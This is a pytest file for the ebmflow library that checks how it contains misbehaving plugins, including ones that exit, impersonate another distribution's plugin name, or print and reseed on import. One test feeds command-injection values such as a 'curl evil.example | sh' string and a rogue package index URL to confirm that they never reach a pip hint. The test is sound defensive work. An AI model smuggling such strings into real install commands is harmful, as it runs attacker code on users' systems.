"""Plugins that misbehave, and whose code a checkpoint is rebuilt with.

Every plugin here is a real installed distribution: a ``*.dist-info`` folder with
``METADATA`` and ``entry_points.txt`` in a fake site (see ``conftest.FakeSite``) that a
subprocess finds through ``importlib.metadata``, exactly as it finds a pip-installed plugin.
Subprocesses run under a timeout, so a regression fails instead of hanging.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import torch

import ebmflow
from ebmflow.errors import CheckpointError

_HAS_CD = any(c.name == "cd" for c in ebmflow.components("objective"))


def sampler_plugin(
    module: str, *, header: str = "", samplers: str | None = None, commands: str | None = None
) -> str:
    """A plugin module registering ``<module>-sampler`` (the core's Langevin class under a
    factory of its own), with optional module-level code and hook bodies."""
    samplers = samplers or f"return [Component('{module.replace('_', '-')}-sampler', make)]"
    source = (
        "import ebmflow\n"
        "from ebmflow import Component\n"
        f"{header}\n"
        "def make(**kwargs):\n"
        "    return ebmflow.create('sampler', 'ebmflow:langevin', **kwargs)\n\n"
        "@ebmflow.hookimpl\n"
        "def ebmflow_samplers():\n"
        f"    {samplers}\n"
    )
    if commands is not None:
        source += f"\n@ebmflow.hookimpl\ndef ebmflow_commands(subparsers):\n    {commands}\n"
    return source


def plugins_by_name(result: subprocess.CompletedProcess[str]) -> dict[str, list[dict]]:
    assert result.returncode == 0, result.stderr
    listed: dict[str, list[dict]] = {}
    for info in json.loads(result.stdout):
        listed.setdefault(info["name"], []).append(info)
    return listed


# -- a plugin that exits or interrupts ----------------------------------------------------

#: how the plugin module ends the process -> the error ``ebmflow plugins`` records
EXITS = {
    "raise SystemExit(0)": "SystemExit: 0",
    "import sys; sys.exit(0)": "SystemExit: 0",
    "import sys; sys.exit('plugin says goodbye')": "SystemExit: plugin says goodbye",
    "raise KeyboardInterrupt": "KeyboardInterrupt",
}


@pytest.mark.parametrize("where", ["import", "hook", "commands hook"])
@pytest.mark.parametrize("statement", EXITS)
def test_plugin_that_exits_or_interrupts_is_failed_and_the_cli_keeps_working(
    fake_site, statement, where
):
    source = {
        "import": sampler_plugin("quitter", header=statement),
        "hook": sampler_plugin("quitter", samplers=statement),
        "commands hook": sampler_plugin("quitter", commands=statement),
    }[where]
    fake_site.add("fake-quitter", {"quitter": "quitter"}, {"quitter.py": source})
    fake_site.add("fake-fine", {"fine": "fine"}, {"fine.py": sampler_plugin("fine")})

    result = fake_site.run("plugins", "--json")
    listed = plugins_by_name(result)
    (info,) = listed["quitter"]
    assert info["status"] == "failed"
    assert info["error"] == EXITS[statement]
    assert listed["fine"][0]["status"] == "ok"
    assert listed["ebmflow"][0]["status"] == "ok"
    assert result.stderr.splitlines() == [
        f"ebmflow: warning: ebmflow plugin 'quitter' failed and is disabled: {EXITS[statement]}"
    ]

    found = fake_site.run("components", "--kind", "sampler", "--json")
    assert found.returncode == 0, found.stderr
    names = {c["qualified_name"] for c in json.loads(found.stdout)}
    assert {"fine:fine-sampler", "ebmflow:mala"} <= names
    assert not any(name.startswith("quitter:") for name in names)


def test_plugin_that_exits_in_the_library_is_failed_and_create_keeps_working(fake_site):
    fake_site.add(
        "fake-quitter",
        {"quitter": "quitter"},
        {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")},
    )
    result = fake_site.python("""
        import json, warnings
        import ebmflow
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            sampler = ebmflow.create("sampler", "langevin", step_size=0.1)
        info = next(p for p in ebmflow.plugins() if p.name == "quitter")
        print(json.dumps({"sampler": type(sampler).__name__, "status": info.status,
                          "warned": [str(w.message) for w in caught]}))
    """)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report == {
        "sampler": "Langevin",
        "status": "failed",
        "warned": ["ebmflow plugin 'quitter' failed and is disabled: SystemExit: 0"],
    }


def test_factory_module_that_exits_is_an_error_not_a_silent_exit(fake_site):
    plugin = sampler_plugin("lazy", samplers="return [Component('lazy', 'lazy_impl:make')]")
    fake_site.add(
        "fake-lazy", {"lazy": "lazy"}, {"lazy.py": plugin, "lazy_impl.py": "raise SystemExit(0)\n"}
    )
    result = fake_site.python("""
        import ebmflow
        try:
            ebmflow.create("sampler", "lazy")
        except ebmflow.PluginError as exc:
            print(exc)
    """)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == (
        "sampler 'lazy:lazy': cannot import its factory 'lazy_impl:make' (SystemExit: 0)"
    )


def test_factory_that_calls_sys_exit_is_an_error_not_a_silent_exit(fake_site):
    plugin = sampler_plugin(
        "quitter",
        header="import sys\ndef leave(**kwargs):\n    sys.exit(0)\n",
        samplers="return [Component('leave', leave)]",
    )
    fake_site.add("fake-quitter", {"quitter": "quitter"}, {"quitter.py": plugin})
    result = fake_site.python("""
        import ebmflow
        try:
            ebmflow.create("sampler", "leave")
        except ebmflow.PluginError as exc:
            print(exc)
    """)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == (
        "sampler 'quitter:leave' (plugin 'quitter', distribution fake-quitter 1.0) raised "
        "SystemExit: 0 while being built"
    )


@pytest.mark.skipif(not _HAS_CD, reason="ebmflow-cd (objective cd) is not installed")
def test_train_still_trains_and_exits_0_beside_a_plugin_that_exits_at_import(fake_site, tmp_path):
    fake_site.add(
        "fake-quitter",
        {"quitter": "quitter"},
        {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")},
    )
    run = tmp_path / "run.toml"
    run.write_text(
        '[data]\nname = "8gaussians"\n\n[energy]\nname = "mlp"\ndim = 2\nwidths = [8]\n\n'
        '[objective]\nname = "cd"\nk = 1\n\n[sampler]\nname = "langevin"\nstep_size = 0.01\n\n'
        "[train]\nsteps = 2\nbatch_size = 16\nseed = 0\ncheckpoint_every = 2\n"
    )
    result = fake_site.run(
        "train", str(run), "--out", str(tmp_path / "out"), "--no-progress", OMP_NUM_THREADS="1"
    )
    assert result.returncode == 0, result.stderr
    assert (
        "ebmflow: warning: ebmflow plugin 'quitter' failed and is disabled: SystemExit: 0"
        in result.stderr
    )
    assert (tmp_path / "out" / "checkpoint" / "config.json").is_file()
    assert "step 2 of 2" in result.stdout


def test_strict_plugins_reports_a_plugin_exit_as_an_error_with_status_1(fake_site):
    fake_site.add(
        "fake-quitter",
        {"quitter": "quitter"},
        {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")},
    )
    result = fake_site.run("plugins", EBMFLOW_STRICT_PLUGINS="1")
    assert result.returncode == 1
    assert result.stderr.splitlines() == ["ebmflow: error: plugin 'quitter' raised SystemExit: 0"]


def test_a_real_ctrl_c_while_a_plugin_imports_still_interrupts_the_cli(fake_site):
    header = "import os, signal, time\nos.kill(os.getpid(), signal.SIGINT)\ntime.sleep(30)\n"
    fake_site.add("fake-slow", {"slow": "slow"}, {"slow.py": sampler_plugin("slow", header=header)})
    result = fake_site.run("plugins", "--json")
    assert result.returncode == 130, result.stderr
    assert result.stderr.splitlines() == ["ebmflow: interrupted"]
    assert result.stdout == ""


# -- two distributions, one plugin name ---------------------------------------------------

#: a plugin module defining and registering an energy class (``energy_name``)
OWNER = """
import torch
import ebmflow
from ebmflow import Component


class Bowl(ebmflow.Energy):
    def __init__(self, dim: int = 2) -> None:
        super().__init__()
        self.event_shape = (dim,)
        self.scale = torch.nn.Parameter(torch.ones(()))

    def forward(self, x, sigma=None):
        return self.scale * x.pow(2).sum(-1)


@ebmflow.hookimpl
def ebmflow_energies():
    return [Component("bowl", "{module}:Bowl")]
"""


def owner_site(site, *, impostor: bool) -> None:
    site.add(
        "fake-owner",
        {"bowls": "owner_bowls"},
        {"owner_bowls.py": OWNER.replace("{module}", "owner_bowls")},
    )
    if impostor:
        site.add(
            "fake-impostor",
            {"bowls": "impostor_bowls"},
            {"impostor_bowls.py": OWNER.replace("{module}", "impostor_bowls")},
        )


def test_plugin_name_claimed_by_two_distributions_loads_neither(fake_site):
    owner_site(fake_site, impostor=True)
    result = fake_site.run("plugins", "--json")
    listed = plugins_by_name(result)
    claimants = listed["bowls"]
    assert sorted(c["distribution"] for c in claimants) == ["fake-impostor", "fake-owner"]
    expected = (
        "the plugin name 'bowls' is claimed by 2 distributions: fake-impostor 1.0, "
        "fake-owner 1.0; none of them is loaded. Uninstall one, or disable it with "
        "EBMFLOW_BLOCK_PLUGINS=<its distribution>"
    )
    for claimant in claimants:
        assert (claimant["status"], claimant["error"]) == ("failed", expected)
    # blocking the impostor by its distribution name lets the owner load
    listed = plugins_by_name(
        fake_site.run("plugins", "--json", EBMFLOW_BLOCK_PLUGINS="fake-impostor")
    )
    by_dist = {c["distribution"]: c for c in listed["bowls"]}
    assert by_dist["fake-owner"]["status"] == "ok"
    assert by_dist["fake-impostor"]["status"] == "disabled"


def _load_report(site, path: Path, **env: str) -> str:
    result = site.python(
        f"""
        import warnings
        import ebmflow
        warnings.simplefilter("ignore", ebmflow.PluginWarning)
        try:
            energy = ebmflow.load({str(path)!r})
        except ebmflow.CheckpointError as exc:
            print("CheckpointError:", exc)
        else:
            print("loaded", type(energy).__module__)
    """,
        **env,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


def test_checkpoint_is_never_rebuilt_with_another_distributions_plugin(fake_site, tmp_path):
    owner_site(fake_site, impostor=True)
    path = tmp_path / "bowl"
    saved = fake_site.python(
        f"""
        import ebmflow
        ebmflow.save(ebmflow.create("energy", "bowls:bowl"), {str(path)!r})
    """,
        EBMFLOW_BLOCK_PLUGINS="fake-impostor",
    )
    assert saved.returncode == 0, saved.stderr
    config = json.loads((path / "config.json").read_text())
    assert (config["plugin"], config["distribution"]) == ("bowls", "fake-owner")

    assert _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="fake-impostor") == (
        "loaded owner_bowls"
    )
    # only the impostor loads: refused, naming both distributions
    report = _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="fake-owner")
    assert report.startswith("CheckpointError: ")
    assert (
        "the checkpoint needs energy 'bowls:bowl' from distribution 'fake-owner', but "
        "plugin 'bowls' is provided by distribution 'fake-impostor' 1.0"
    ) in report
    # both installed: neither is loaded, so the checkpoint is refused too
    report = _load_report(fake_site, path)
    assert report.startswith("CheckpointError: ")
    assert "claimed by 2 distributions: fake-impostor 1.0, fake-owner 1.0" in report


@pytest.mark.skipif(not _HAS_CD, reason="ebmflow-cd (objective cd) is not installed")
def test_a_distribution_naming_its_plugin_cd_cannot_serve_ebmflow_cd_checkpoints(
    fake_site, tmp_path
):
    path = tmp_path / "cd"
    ebmflow.save(ebmflow.create("objective", "cd", sampler="langevin"), path)
    assert json.loads((path / "config.json").read_text())["distribution"] == "ebmflow-cd"
    impostor = (
        "import ebmflow\n\n@ebmflow.hookimpl\ndef ebmflow_objectives():\n"
        "    return [ebmflow.Component('cd', 'ebmflow_cd.cd:ContrastiveDivergence')]\n"
    )
    fake_site.add("evil-cd", {"cd": "evil_cd"}, {"evil_cd.py": impostor}, version="6.6")

    listed = plugins_by_name(fake_site.run("plugins", "--json"))
    assert {c["distribution"]: c["status"] for c in listed["cd"]} == {
        "ebmflow-cd": "failed",
        "evil-cd": "failed",
    }
    report = _load_report(fake_site, path)
    assert "claimed by 2 distributions" in report and "evil-cd 6.6" in report
    report = _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="ebmflow-cd")
    assert (
        "from distribution 'ebmflow-cd', but plugin 'cd' is provided by distribution "
        "'evil-cd' 6.6" in report
    )


# -- an alias of another plugin's class ---------------------------------------------------


def test_saving_records_the_owner_of_a_class_not_a_plugin_that_aliases_it(fake_site, tmp_path):
    owner_site(fake_site, impostor=False)
    alias = (
        "import ebmflow\nfrom ebmflow import Component\n\n@ebmflow.hookimpl\n"
        "def ebmflow_energies():\n"
        "    return [Component('a-mlp', 'ebmflow.energies.mlp:MLPEnergy'),\n"
        "            Component('a-bowl', 'owner_bowls:Bowl')]\n"
    )
    fake_site.add("fake-alias", {"aaa": "aaa_alias"}, {"aaa_alias.py": alias})
    saved = fake_site.python(f"""
        import ebmflow
        ebmflow.save(ebmflow.create("energy", "mlp", dim=2), {str(tmp_path / "mlp")!r})
        ebmflow.save(ebmflow.create("energy", "bowl"), {str(tmp_path / "bowl")!r})
    """)
    assert saved.returncode == 0, saved.stderr
    mlp = json.loads((tmp_path / "mlp" / "config.json").read_text())
    bowl = json.loads((tmp_path / "bowl" / "config.json").read_text())
    assert (mlp["plugin"], mlp["name"], mlp["distribution"]) == ("ebmflow", "mlp", "ebmflow")
    assert (bowl["plugin"], bowl["name"], bowl["distribution"]) == ("bowls", "bowl", "fake-owner")
    # and so the MLP loads where the alias plugin is not installed
    assert isinstance(ebmflow.load(tmp_path / "mlp"), ebmflow.MLPEnergy)


# -- the missing-plugin hint --------------------------------------------------------------


def _with_record(path: Path, **changes) -> None:
    config = json.loads((path / "config.json").read_text())
    config.update(changes)
    (path / "config.json").write_text(json.dumps(config))


@pytest.mark.parametrize(
    "distribution",
    [
        "ebmflow-cd --index-url https://evil.example/simple",
        "ebmflow-cd==1.0",
        "ebmflow-cd; curl evil.example | sh",
        "-r requirements.txt",
        "ebmflow-cd\nebmflow: error: nothing",
        "",
    ],
)
def test_missing_plugin_hint_never_puts_recorded_text_into_a_pip_command(tmp_path, distribution):
    path = tmp_path / "gmm"
    ebmflow.save(ebmflow.GMMEnergy.ring(), path)
    _with_record(path, plugin="gone", distribution=distribution)
    with pytest.raises(CheckpointError) as caught:
        ebmflow.load(path)
    message = str(caught.value)
    assert "pip" not in message
    assert "\n" not in message
    assert (
        f"the checkpoint records distribution {distribution!r}, which is not a valid "
        f"distribution name"
    ) in message


@pytest.mark.parametrize("distribution", ["ebmflow-gone", "Ebmflow_Gone.2", "x"])
def test_missing_plugin_hint_names_a_valid_distribution_to_install(tmp_path, distribution):
    path = tmp_path / "gmm"
    ebmflow.save(ebmflow.GMMEnergy.ring(), path)
    _with_record(path, plugin="gone", distribution=distribution, plugin_version="2.0")
    with pytest.raises(
        CheckpointError,
        match=f"install it: pip install {distribution} "
        rf"\(the checkpoint was written with "
        rf"{distribution} 2\.0\)",
    ):
        ebmflow.load(path)


# -- plugin side effects on the caller ----------------------------------------------------


def test_plugin_prints_never_reach_the_json_on_stdout(fake_site, tmp_path):
    chatty = sampler_plugin(
        "chatty",
        header="print('hello from chatty at import')",
        samplers="print('hello from the hook'); "
        "return [Component('chatty-sampler', 'chatty_impl:make')]",
        commands="print('hello from the commands hook')",
    )
    impl = (
        "import ebmflow\nprint('hello from the factory module')\n\n"
        "def make(**kwargs):\n    return ebmflow.create('sampler', 'ebmflow:langevin', "
        "**kwargs)\n"
    )
    fake_site.add(
        "fake-chatty", {"chatty": "chatty"}, {"chatty.py": chatty, "chatty_impl.py": impl}
    )
    for command in (["plugins", "--json"], ["components", "--json"]):
        result = fake_site.run(*command)
        assert result.returncode == 0, result.stderr
        json.loads(result.stdout)
        assert "hello from chatty at import" in result.stderr

    checkpoint = tmp_path / "gmm"
    ebmflow.save(ebmflow.GMMEnergy.ring(), checkpoint)
    result = fake_site.run(
        "sample",
        str(checkpoint),
        "--sampler",
        "chatty-sampler",
        "--sampler-arg",
        "step_size=0.05",
        "--steps",
        "3",
        "--n",
        "8",
        "--out",
        str(tmp_path / "s.safetensors"),
        OMP_NUM_THREADS="1",
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["steps"] == 3
    for said in ("chatty at import", "the hook", "the commands hook", "the factory module"):
        assert f"hello from {said}" in result.stderr


def test_plugin_seeding_torch_does_not_change_a_seeded_create(fake_site):
    seeder = sampler_plugin(
        "seeder",
        header="import torch\ntorch.manual_seed(1234)\n",
        samplers="torch.manual_seed(99); torch.rand(5); return [Component('seeder-sampler', make)]",
    )
    fake_site.add("fake-seeder", {"seeder": "seeder"}, {"seeder.py": seeder})
    result = fake_site.python("""
        import torch
        import ebmflow
        torch.manual_seed(0)
        first = ebmflow.create("energy", "mlp", dim=2)      # loads the plugins
        torch.manual_seed(0)
        second = ebmflow.create("energy", "mlp", dim=2)     # plugins already loaded
        assert any(p.name == "seeder" and p.status == "ok" for p in ebmflow.plugins())
        same = all(torch.equal(a, b) for a, b in zip(first.state_dict().values(),
                                                     second.state_dict().values()))
        print("same" if same else "different")
    """)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "same"


def test_plugin_loading_keeps_the_torch_generator_state_it_found():
    state = torch.get_rng_state()
    host = ebmflow.PluginHost(entry_points=False)

    class Seeder:
        @ebmflow.hookimpl
        def ebmflow_samplers(self):
            torch.manual_seed(7)
            return []

    host.register(Seeder(), name="seeder")
    assert host.plugins()[-1].status == "ok"
    assert torch.equal(torch.get_rng_state(), state)


def test_plugin_loading_leaves_stdout_and_the_sigint_handler_as_it_found_them(capsys):
    import signal

    handler, stdout = signal.getsignal(signal.SIGINT), sys.stdout
    host = ebmflow.PluginHost(entry_points=False)

    class Chatty:
        @ebmflow.hookimpl
        def ebmflow_samplers(self):
            print("chatty hook")
            return []

    host.register(Chatty(), name="chatty")
    assert (signal.getsignal(signal.SIGINT), sys.stdout) == (handler, stdout)
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ("", "chatty hook\n")


def test_after_a_ctrl_c_during_plugin_loading_the_next_lookup_loads_again(fake_site, tmp_path):
    marker = tmp_path / "interrupted-once"
    header = (
        f"import os, signal, time\n"
        f"if not os.path.exists({str(marker)!r}):\n"
        f"    open({str(marker)!r}, 'w').close()\n"
        f"    os.kill(os.getpid(), signal.SIGINT)\n"
        f"    time.sleep(30)\n"
    )
    fake_site.add("fake-slow", {"slow": "slow"}, {"slow.py": sampler_plugin("slow", header=header)})
    result = fake_site.python("""
        import ebmflow
        try:
            ebmflow.components()
        except KeyboardInterrupt:
            print("interrupted")
        print(sorted((p.name, p.status) for p in ebmflow.plugins() if p.name != "ebmflow"
                     and p.distribution.startswith("fake-")))
        print(type(ebmflow.create("sampler", "slow-sampler", step_size=0.1)).__name__)
    """)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == ["interrupted", "[('slow', 'ok')]", "Langevin"]
